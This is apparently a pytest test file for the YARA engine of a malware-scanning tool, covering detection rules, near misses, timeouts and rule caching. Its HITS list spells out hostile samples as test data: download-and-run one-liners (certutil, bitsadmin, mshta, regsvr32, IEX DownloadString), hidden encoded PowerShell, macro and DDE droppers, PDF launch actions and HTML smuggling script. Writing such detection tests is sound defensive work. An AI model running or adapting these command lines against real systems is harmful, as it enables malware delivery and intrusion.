from __future__ import annotations

import base64
import functools
import os
import stat
import subprocess
import sys
import threading
from collections.abc import Iterable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from doubles import context, item_in_file, item_of
from eicar import EICAR
from lazaretto.engines.yara import MAX_MATCHES, OWN_RULES, Yara, compile_cached, rule_files
from lazaretto.errors import ConfigError, EngineError
from lazaretto.mime.source import Source
from lazaretto.model import Kind, Reason

MARKER_RULE = 'rule marker { strings: $a = "MARKER" condition: $a }'


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Yara:
    return Yara.from_config("yara", {"cache_dir": str(tmp_path_factory.mktemp("cache"))})


def names(engine: Yara, content: bytes, **fields: object) -> list[str]:
    return sorted(finding.name for finding in engine.scan(item_of(content, **fields), context()))


def own(path: Path, text: str, **options: object) -> Yara:
    """An engine with these rules only."""
    path.write_text(text)
    return Yara.from_config("yara", {"rules": [str(path)], "own_rules": False, **options})


# -- our rules: what hits, and what comes close and must not

# Parts of words are glued together here, so that this file is not what it tests for.
PS = b"power" + b"shell"
SHELL = b"WScript" + b".Shell"
PE_BASE64 = base64.b64encode(b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + bytes(47) + b"\x80" + bytes(70))
ENCODED = base64.b64encode("Write-Output hello world".encode("utf-16-le"))
DROPPER = b'var s = new ActiveXObject("' + SHELL + b'"); var x = new ActiveXObject("MSXML2.XML' + b'HTTP"); s.Run("a.exe");'
SMUGGLE = (
    b"<html><script>b = new Blob([Uint8Array.from(atob(d))]); a.href = URL.createObjectURL(b);a.download = 'x.zip'; a.click();</script>"
)
CARRIED = b"<script>var d = '" + base64.b64encode(b"PK\3\4\x14\0\0\0\0\0" + bytes(80)) + b"'; save(atob(d));</script>"
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
ONE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(200) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + bytes(20)
CFB = bytes.fromhex("d0cf11e0a1b11ae1")
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog "
RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'

HITS = [
    ("Eicar-Test-Signature", EICAR),
    ("Eicar-Test-Signature", b"text before " + EICAR + b" and after"),
    ("script-dropper", DROPPER),
    ("script-dropper", DROPPER.decode().encode("utf-16-le")),
    ("script-dropper", b'Set s = CreateObject("' + SHELL + b'")\nSet f = CreateObject("ADODB' + b'.Stream")\nf.SaveToFile "a"\ns.Run "a"'),
    ("script-download", b"cert" + b"util.exe -urlcache -split -f http://example.org/a.exe a.exe"),
    ("script-download", b"bits" + b"admin /transfer job /priority high http://example.org/a.exe c:\\a.exe"),
    ("script-download", b"ms" + b"hta http://example.org/a.hta"),
    ("script-download", b"reg" + b"svr32 /s /n /u /i:http://example.org/a.sct scrobj.dll"),
    ("script-download", b"IEX (New-Object Net.WebClient).Down" + b"loadString('http://example.org/a')"),
    ("script-download", b"iwr http://example.org/a -UseBasicParsing | iex"),
    ("powershell-encoded", PS + b".exe -NoP -W Hidden -Enc " + ENCODED),
    ("powershell-encoded", PS + b" -e " + ENCODED),
    ("powershell-encoded", (PS + b" -EncodedCommand " + ENCODED).decode().encode("utf-16-le")),
    ("executable-in-text", b'x = "' + PE_BASE64 + b'"'),
    ("executable-in-text", b"[Byte[]] $b = @(0x4d,0x5a,0x90,0x00,0x03)"),
    ("macro-autorun", b'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\nMsgBox 1\r\nEnd Sub'),
    ("macro-autorun", b"Sub AutoOpen()\nEnd Sub"),
    ("macro-autorun", b"x\nPublic Static Sub  WORKBOOK_OPEN ()\nEnd Sub"),
    ("macro-dropper", b'Attribute VB_Name = "M"\r\nSub x()\r\nShell "' + PS + b' -w hidden"\r\nEnd Sub'),
    ("macro-dropper", b'Attribute VB_Name = "M"\r\nDeclare Function URLDown' + b'loadToFile Lib "urlmon"\r\nx = Shell("a.exe", 0)'),
    ("xlm-auto-open", b"xls:xlm-macro-sheet hidden Macro1\nxls:xlm-auto-open\n"),
    ("xlm-auto-open", b'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'),
    ("xlm-auto-open", b"ID;PWXL;N;E\nO;E\nNN;NAuto_open;ER101C1\n"),
    ("xlm-auto-open", bytes(10) + b"\x09\0\0\0" + "Auto_Open".encode("utf-16-le") + bytes(10)),
    ("office-dde", b"doc:dde DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe\n"),
    ("office-dde", b"xls:dde cmd|/c calc\n"),
    ("office-dde", b"rtf:template http://x/\nrtf:field DDEAUTO cmd\n"),
    ("office-dde", b'<w:instrText xml:space="preserve"> DDEAUTO "cmd.exe" "/c calc"</w:instrText>'),
    ("office-dde", b'<w:fldSimple w:instr=" DDE cmd x">'),
    ("office-dde", b'<ddeLink xmlns:r="x" ddeService="cmd" ddeTopic="/c calc">'),
    ("office-dde", b"name,total\r\n=cmd|'/C calc'!A0,1\r\n"),
    ("ooxml-remote-template", RELS + b'attachedTemplate" Target="https://example.org/a.dotm" TargetMode="External"/>'),
    ("ooxml-remote-template", b'<Relationship TargetMode="External" Target="\\\\host\\a.dotm" Type="http://x/attachedTemplate"/>'),
    ("ooxml-remote-template", b"ooxml:attached-template https://example.org/a.dotm\n"),
    ("ooxml-remote-template", b"ooxml:hyperlink x:y\nrtf:template \\\\host\\share\\a.dotm\n"),
    ("ooxml-remote-object", b"ooxml:frame https://example.org/a.html\n"),
    (
        "ooxml-remote-object",
        RELS + b'oleObject" Target="mhtml:https://example.org/a.html!x-usc:https://example.org/a.html" TargetMode="External"/>',
    ),
    ("rtf-object", b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01}}}"),
    ("rtf-object", b"rtf:object-class OLE2Link\n"),
    ("rtf-object", b"rtf:object-update\n"),
    ("equation-object", bytes.fromhex("01050000020000000b000000") + b"Equation.3\0"),
    ("equation-object", CFB + bytes(1000) + bytes.fromhex("02ce020000000000c000000000000046")),
    ("ole-link-object", bytes.fromhex("010500000200000009000000") + b"OLE2Link\0"),
    ("lnk-command", LNK + b"..\\..\\Windows\\System32\\cmd.exe".decode().encode("utf-16-le")),
    ("lnk-command", LNK + PS + b" -c x"),
    ("onenote-embedded-program", ONE + b"MZ\x90\0"),
    ("onenote-embedded-program", ONE + b"<html><script language='vbscript'>x</script>"),
    ("pdf-javascript", PDF + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
    ("pdf-javascript", PDF + b"/Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"),
    ("pdf-javascript", PDF + b"/AA << /O << /S /JavaScript /JS 5 0 R >> >> >>"),
    ("pdf-javascript", PDF + b"/Names << /JavaScript 5 0 R >> >>"),
    ("pdf-javascript", b"\n1 0 obj << /OpenAction 2 0 R >> endobj\n2 0 obj << /S /JavaScript /JS (x) >> endobj\n"),
    ("pdf-launch", PDF + b"/OpenAction << /S /Launch /F (cmd.exe) >> >>"),
    ("pdf-launch", PDF + b"/OpenAction << /S /L#61unch /Win << /F (cmd.exe) >> >> >>"),
    ("pdf-launch", b"\n2 0 obj << /Type /Action /S /Launch /F (cmd.exe) >> endobj\n"),
    ("html-smuggling", SMUGGLE),
    ("html-smuggling", b"<body onload='x()'><script>n = new Blob([s.charCodeAt(0)]); navigator.msSaveOrOpenBlob(n, 'a.zip')</script>"),
    ("html-carried-file", CARRIED),
    ("svg-script", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'),
    ("svg-script", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
    ("svg-script", b'<svg:svg xmlns:svg="x"><a xlink:href="javascript:x"/></svg:svg>'),
]

MISSES = [
    b"",
    EICAR[:-1],
    EICAR.swapcase(),
    EICAR.replace(b"$", b"$ ", 1),
    # one half of a pair, and prose about the whole
    b'Set s = CreateObject("' + SHELL + b'")\ns.Run "notepad.exe"',
    b"Malware often uses " + SHELL + b" together with ADODB" + b".Stream to write files.",
    b"The cert" + b"util program shows certificates; -urlcache is one of its options. http://example.org/",
    b"cert" + b"util -dump a.cer",
    b"ms" + b"hta.exe is a program of Windows",
    b"reg" + b"svr32 /s a.dll",
    PS + b" -ExecutionPolicy Bypass -File C:\\Scripts\\nightly-backup-of-everything.ps1",
    PS + b" -Command Get-ChildItem",
    PE_BASE64,  # a line of a MIME body
    b"\n" + b"\n".join(PE_BASE64[i : i + 76] for i in range(0, len(PE_BASE64), 76)),
    b"The header of a program begins with 0x4d, 0x5a.",
    b'Attribute VB_Name = "M"\r\nSub Calculate()\r\nEnd Sub',
    b'Attribute VB_Name = "M"\r\nSub x()\r\nShell "notepad.exe"\r\nEnd Sub',
    b"Please press the button: AutoOpen() is not called.",
    b"xls:xlm-macro-sheet visible Macro1\n",
    b'<definedName name="_xlnm.Print_Area">Sheet1!$A$1</definedName>',
    b"ID;PWXL;N;E\nC;Y1;X1;K1\n",
    b"\x0a\0\0\0" + "Auto_Opens".encode("utf-16-le"),
    b"<w:instrText> HYPERLINK x </w:instrText>",
    b"<w:instrText> PAGE </w:instrText>",
    b"name,total\r\n=SUM(A1:A2),1\r\n-cmd,2\r\n",
    b"a + b | cmd",
    RELS + b'attachedTemplate" Target="file:///C:/Users/me/Normal.dotm" TargetMode="External"/>',
    RELS + b'hyperlink" Target="https://example.org/" TargetMode="External"/>',
    RELS + b'image" Target="media/image1.png"/>',
    b"rtf:template C:\\Normal.dotm\n",
    b"{\\rtf1 just text about \\{\\\\objclass\\}}",
    b"rtf:object-class Excel.Sheet.12\n",
    b"{\\rtf1{\\object{\\*\\objclass Excel.Sheet.12}{\\*\\objdata 01}}}",
    CFB + bytes(1000) + b"Equation",
    b"Equation.3\0",
    LNK + b"D\0o\0c\0u\0m\0e\0n\0t\0.\0p\0d\0f\0",
    b"x" + LNK + PS,
    ONE + b"\x89PNG\r\n\x1a\n" + bytes(900),
    b"MZ" + ONE[16:] + b"MZ",
    PDF + b"/OpenAction [3 0 R /Fit] >>",
    PDF + b"/JS (x) /Next 3 0 R >>",
    b"\n1 0 obj << /OpenAction [ 3 0 R /Fit ] >> endobj\n2 0 obj << /S /JavaScript2 >> endobj\n",
    PDF + b"/AAPL:Keywords /JSON >>",
    b"A PDF runs /JavaScript from its /OpenAction.",
    b"See /Launch in the specification of PDF.",
    PDF + b"/Title (Launch /S) /S /URI >>",
    b"<html><script>var b = new Blob(['a']); show(URL.createObjectURL(b));</script>",
    b"<html><script>x = atob(y); a.click();</script>",
    b"Blob, Uint8Array, createObjectURL and .click() are functions of a browser.",
    b"<html><img src='data:image/png;base64,iVBORw0KGgo='><script>x()</script>",
    b"<p>" + CARRIED[16:].replace(b"</script>", b""),
    b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/><desc>script onload</desc></svg>',
    b"<html><svg></svg><script>x()</script></html>",
]


@pytest.mark.parametrize(("name", "content"), HITS, ids=[f"{number}-{name}" for number, (name, _) in enumerate(HITS)])
def test_hits(engine: Yara, name: str, content: bytes) -> None:
    assert name in names(engine, content)


@pytest.mark.parametrize("content", MISSES)
def test_near_misses(engine: Yara, content: bytes) -> None:
    assert names(engine, content) == []


def test_every_rule_has_a_hit_and_its_metadata(engine: Yara) -> None:
    metas = [dict(rule.metadata) for rules in engine._rules for rule in rules]
    assert {name for name, _ in HITS} == {meta["name"] for meta in metas}
    for meta in metas:
        assert meta["kind"] in ("malware", "active", "banned")
        assert meta["description"]
        assert meta.get("raw") is False or meta["name"] == "Eicar-Test-Signature"


def test_kinds(engine: Yara) -> None:
    (finding,) = engine.scan(item_of(EICAR), context())
    assert (finding.engine, finding.kind, finding.name, finding.part, finding.trail) == (
        "yara",
        Kind.MALWARE,
        "Eicar-Test-Signature",
        (),
        (),
    )
    assert "EICAR" in finding.detail
    (finding,) = engine.scan(item_of(b"Sub AutoOpen()\nEnd Sub"), context())
    assert finding.kind is Kind.ACTIVE


def test_the_raw_message_gets_only_rules_about_it(engine: Yara) -> None:
    content = b"Subject: x\n\n" + SMUGGLE + EICAR
    assert names(engine, content, is_message=True) == ["Eicar-Test-Signature"]
    assert names(engine, content) == ["Eicar-Test-Signature", "html-smuggling"]


def test_the_checkout_holds_no_eicar() -> None:
    for file in rule_files(OWN_RULES):
        assert EICAR not in Path(file).read_bytes()
    assert EICAR not in Path(__file__).read_bytes()


@given(st.binary(max_size=2000), st.integers(0, 2000))
def test_found_anywhere(noise: bytes, at: int) -> None:
    assert "Eicar-Test-Signature" in names(uncached(), noise[:at] + EICAR + noise[at:])


@functools.cache
def uncached() -> Yara:
    return Yara.from_config("yara", {})


# -- content in files


def test_large_content_is_mapped(engine: Yara, tmp_path: Path) -> None:
    with item_in_file(tmp_path, bytes(3 << 20) + EICAR) as item:
        assert [finding.name for finding in engine.scan(item, context())] == ["Eicar-Test-Signature"]
        mapped_only = item._replace(content=Source(item.content.data, None))
        assert [finding.name for finding in engine.scan(mapped_only, context())] == ["Eicar-Test-Signature"]
        # The file has grown: only the content counts.
        os.chmod(f"/proc/self/fd/{item.content.fd}", 0o600)
        with open(f"/proc/self/fd/{item.content.fd}", "ab") as file:
            file.write(SMUGGLE)
        assert [finding.name for finding in engine.scan(item, context())] == ["Eicar-Test-Signature"]


def test_memory_of_150_mb(tmp_path: Path) -> None:
    """Anonymous memory does not grow with the content.  In a process of its own: peaks do not go down."""
    script = f"""
import os, sys
sys.path[:0] = {sys.path!r}
from doubles import context, item_in_file
from lazaretto.engines.yara import Yara
from pathlib import Path
def anonymous():
    return next(int(l.split()[1]) for l in open("/proc/self/status") if l.startswith("RssAnon")) / 1024
path = Path({str(tmp_path)!r})
fd = os.open(path / "big", os.O_RDWR | os.O_CREAT)
os.pwrite(fd, b"x", (150 << 20) - 1)
from lazaretto.mime.source import Source
from lazaretto.model import Item
item = Item((), (), (), "", Source.from_fd(fd, 150 << 20), "data")
engine = Yara.from_config("yara", {{}})
before = anonymous()
assert engine.scan(item, context(60)) == []
print(anonymous() - before)
"""
    if not os.path.exists("/proc/self/status"):
        pytest.skip("needs /proc")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert float(done.stdout) < 30


def test_no_content_is_not_wanted(engine: Yara) -> None:
    assert not engine.wants(item_of(b""))
    assert engine.wants(item_of(b"x", covered=True))


# -- trouble


def test_no_time_left(engine: Yara) -> None:
    with pytest.raises(EngineError) as caught:
        engine.scan(item_of(b"x"), context(-1))
    assert caught.value.reason is Reason.TIMEOUT


def test_too_slow(tmp_path: Path) -> None:
    slow = own(
        tmp_path / "slow.yar",
        "rule slow { condition: for all i in (0..1000000) : ( for all j in (0..1000000) : ( i + j + filesize > 0 ) ) }",
    )
    with pytest.raises(EngineError) as caught:
        slow.scan(item_of(b"x"), context(0.1))
    assert caught.value.reason is Reason.TIMEOUT


class PanicException(BaseException):
    """As the library's: not an Exception."""


@pytest.mark.parametrize("error", [PanicException("at src/lib.rs"), RuntimeError("x"), MemoryError()])
def test_a_failure_of_the_library_is_an_engine_error(engine: Yara, monkeypatch: pytest.MonkeyPatch, error: BaseException) -> None:
    def fail(*_: object) -> None:
        raise error

    monkeypatch.setattr("yara_x.Scanner", fail)
    with pytest.raises(EngineError) as caught:
        engine.scan(item_of(b"x"), context())
    assert caught.value.reason is Reason.DOWN
    assert type(error).__name__ in caught.value.detail


@pytest.mark.parametrize("error", [KeyboardInterrupt, SystemExit, GeneratorExit])
def test_what_is_not_the_librarys_passes(engine: Yara, monkeypatch: pytest.MonkeyPatch, error: type[BaseException]) -> None:
    def fail(*_: object) -> None:
        raise error

    monkeypatch.setattr("yara_x.Scanner", fail)
    with pytest.raises(error):
        engine.scan(item_of(b"x"), context())


def test_any_thread_may_scan(engine: Yara) -> None:
    found: list[list[str]] = []
    threads = [threading.Thread(target=lambda: found.append(names(engine, EICAR))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert found == [["Eicar-Test-Signature"]] * 4


def test_many_matches_do_not_pile_up(tmp_path: Path) -> None:
    counting = own(
        tmp_path / "a.yar",
        f'rule many {{ strings: $a = "a" condition: #a > {MAX_MATCHES} }} rule some {{ strings: $a = "a" condition: #a > 9 }}',
    )
    assert names(counting, b"a" * 1_000_000) == ["some"]


# -- rules of others


def test_extra_rules(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "one.yar").write_text(MARKER_RULE)
    (tmp_path / "sub" / "two.yara").write_text(
        MARKER_RULE.replace("marker {", 'marker { meta: name = "Two" kind = "banned" description = "d"')
    )
    (tmp_path / "notes.txt").write_text("no rules")
    engine = Yara.from_config("yara", {"rules": [str(tmp_path)]})
    findings = {(finding.name, finding.kind, finding.detail) for finding in engine.scan(item_of(b"a MARKER"), context())}
    assert findings == {("marker", Kind.MALWARE, ""), ("Two", Kind.BANNED, "d")}
    assert names(engine, EICAR) == ["Eicar-Test-Signature"]
    alone = Yara.from_config("yara", {"rules": [str(tmp_path)], "own_rules": False, "ignore": ["Two"]})
    assert names(alone, EICAR + b"MARKER") == ["marker"]


def test_compiled_rules(tmp_path: Path) -> None:
    from yara_x import compile as compile_yara

    with (tmp_path / "m.yarc").open("wb") as file:
        compile_yara(MARKER_RULE).serialize_into(file)
    assert names(Yara.from_config("yara", {"rules": [str(tmp_path / "m.yarc")], "own_rules": False}), b"MARKER") == ["marker"]
    (tmp_path / "bad.yarc").write_bytes(b"junk")
    with pytest.raises(ConfigError, match="not rules compiled by this version"):
        Yara.from_config("yara", {"rules": [str(tmp_path / "bad.yarc")]})


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("rule a { condition: foo }", 1, "unknown identifier `foo`"),
        ("rule a { condition: true }\n\nrule b {\n  condition: }\n", 4, "syntax error"),
        ("rule a {\n strings: $a = /a{/\n condition: $a }", 2, "invalid regular expression"),
        ('include "/etc/passwd"', 1, "include"),
        (MARKER_RULE + "\n" + MARKER_RULE, 2, "duplicate rule"),
    ],
)
def test_rules_that_do_not_compile(tmp_path: Path, text: str, line: int, message: str) -> None:
    with pytest.raises(ConfigError) as caught:
        own(tmp_path / "bad.yar", text)
    assert caught.value.file == str(tmp_path / "bad.yar")
    assert caught.value.line == line
    assert message in caught.value.message
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"rules": "x.yar"}, "rules: expected a list"),
        ({"rules": ["/nonexistent.yar"]}, "cannot read rules"),
        ({"own_rules": False}, "rules: without own_rules"),
        ({"own_rules": "no"}, "own_rules: expected true or false"),
        ({"rule": []}, "rule: unknown option"),
    ],
)
def test_wrong_options(options: dict[str, object], message: str) -> None:
    with pytest.raises(ConfigError) as caught:
        Yara.from_config("yara", options)
    assert message in str(caught.value)


def test_a_directory_without_rules(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"no \*\.yar"):
        Yara.from_config("yara", {"rules": [str(tmp_path)]})


def test_info(engine: Yara) -> None:
    info = engine.info(1)
    assert info.version.startswith("YARA-X 1.")
    assert info.signatures == f"{len({name for name, _ in HITS})} rules"
    engine.close()


# -- the cache


@pytest.fixture
def compilations(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Grows by one for each compilation."""
    import lazaretto.engines.yara as module

    count: list[int] = []
    compile_rules = module.compile_rules

    def counting(texts: Iterable[object]) -> object:
        count.append(1)
        return compile_rules(texts)  # type: ignore[arg-type]

    monkeypatch.setattr(module, "compile_rules", counting)
    return count


def with_cache(tmp_path: Path, text: str = MARKER_RULE) -> Yara:
    return own(tmp_path / "rules.yar", text, cache_dir=str(tmp_path / "deep" / "cache"))


def cache_file(tmp_path: Path) -> Path:
    (file,) = (tmp_path / "deep" / "cache").iterdir()
    return file


def test_compiled_once(tmp_path: Path, compilations: list[int]) -> None:
    for _ in range(3):
        assert names(with_cache(tmp_path), b"MARKER") == ["marker"]
    assert len(compilations) == 1
    assert stat.S_IMODE(cache_file(tmp_path).stat().st_mode) == 0o600


def test_changed_rules_replace_the_cache(tmp_path: Path, compilations: list[int]) -> None:
    with_cache(tmp_path)
    assert names(with_cache(tmp_path, MARKER_RULE.replace("MARKER", "OTHER")), b"OTHER") == ["marker"]
    assert len(compilations) == 2
    cache_file(tmp_path)  # still one


def test_another_library_replaces_the_cache(tmp_path: Path, compilations: list[int], monkeypatch: pytest.MonkeyPatch) -> None:
    with_cache(tmp_path)
    monkeypatch.setattr("lazaretto.engines.yara._library_mark", lambda: b"another")
    with_cache(tmp_path)
    assert len(compilations) == 2


@pytest.mark.parametrize("damage", ["empty", "cut", "flip", "foreign", "key-only"])
def test_a_broken_cache_is_replaced(tmp_path: Path, compilations: list[int], damage: str) -> None:
    with_cache(tmp_path)
    file = cache_file(tmp_path)
    data = bytearray(file.read_bytes())
    if damage == "flip":
        data[len(data) // 2] ^= 1
    file.write_bytes(
        {"empty": b"", "cut": bytes(data[:-1]), "flip": bytes(data), "foreign": b"x" * 1000, "key-only": bytes(data[:32])}[damage]
    )
    assert names(with_cache(tmp_path), b"MARKER") == ["marker"]
    assert len(compilations) == 2
    with_cache(tmp_path)
    assert len(compilations) == 2


def test_a_cache_that_others_can_write_is_not_trusted(tmp_path: Path, compilations: list[int]) -> None:
    with_cache(tmp_path)
    file = cache_file(tmp_path)
    file.chmod(0o622)
    with_cache(tmp_path)
    assert len(compilations) == 2
    kept = tmp_path / "kept"
    file.rename(kept)
    file.symlink_to(kept)
    with_cache(tmp_path)
    assert len(compilations) == 3


def test_whole_but_unreadable(tmp_path: Path, compilations: list[int], monkeypatch: pytest.MonkeyPatch) -> None:
    with_cache(tmp_path)

    def refuse(compiled: bytes, file: str) -> None:
        raise ConfigError("another format", file)

    monkeypatch.setattr("lazaretto.engines.yara._load", refuse)
    assert names(with_cache(tmp_path), b"MARKER") == ["marker"]
    assert len(compilations) == 2


def test_a_cache_that_cannot_be_written_is_no_error(tmp_path: Path, compilations: list[int]) -> None:
    (tmp_path / "deep").write_text("a file where the directory should be")
    assert names(with_cache(tmp_path), b"MARKER") == ["marker"]
    assert names(own(tmp_path / "r.yar", MARKER_RULE), b"MARKER") == ["marker"]  # no cache at all
    assert len(compilations) == 2
    assert sorted(path.name for path in tmp_path.iterdir()) == ["deep", "r.yar", "rules.yar"]


def test_a_full_disk_leaves_nothing_behind(tmp_path: Path, compilations: list[int], monkeypatch: pytest.MonkeyPatch) -> None:
    def full(source: str, target: str) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr(os, "replace", full)
        assert names(with_cache(tmp_path), b"MARKER") == ["marker"]
    assert list((tmp_path / "deep" / "cache").iterdir()) == []
    assert compile_cached([], None) is not None
